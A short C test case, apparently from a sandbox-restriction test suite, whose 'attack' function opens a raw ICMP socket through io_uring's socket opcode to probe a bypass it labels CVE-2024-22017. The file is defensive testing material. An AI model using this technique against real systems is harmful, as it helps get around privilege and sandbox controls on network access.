/* Makes a raw socket by io_uring.
 * stands for: CVE-2024-22017
 * grant: all
 * held: yes */
#include "attack.h"
#include "ring.h"

static long attack(void)
{
    struct ring ring;
    if (ring_make(&ring) < 0) return -1;
    int fd = ring_call(&ring, (struct io_uring_sqe){.opcode = 45 /* IORING_OP_SOCKET */,
                                                    .fd = AF_INET,
                                                    .off = SOCK_RAW,
                                                    .len = IPPROTO_ICMP});
    errno = fd < 0 ? -fd : 0;
    return fd;
}
